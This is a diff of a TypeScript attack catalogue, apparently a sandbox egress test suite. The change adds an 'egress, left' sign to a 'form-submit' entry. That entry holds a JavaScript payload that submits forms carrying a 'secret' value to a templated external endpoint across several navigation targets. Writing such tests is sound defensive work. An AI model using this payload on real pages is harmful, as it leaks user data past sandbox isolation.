@@ -48,7 +48,7 @@ export const navigationAttacks: readonly Attack[] = [
     id: "form-submit",
     title: "form submit (GET, POST, _self, _blank)",
     code: String.raw`for(const [m,t] of [['get','_self'],['post','_blank'],['post','_top']]){const f=document.createElement('form');f.method=m;f.target=t;f.action='{{E}}/html/{{T}}';f.innerHTML='<input name=d value=secret>';document.body.append(f);try{f.submit()}catch(e){}}`,
-    signs: ["egress"],
+    signs: ["egress", "left"],
     ownTile: true,
     stoppedBySandbox: true,
   },
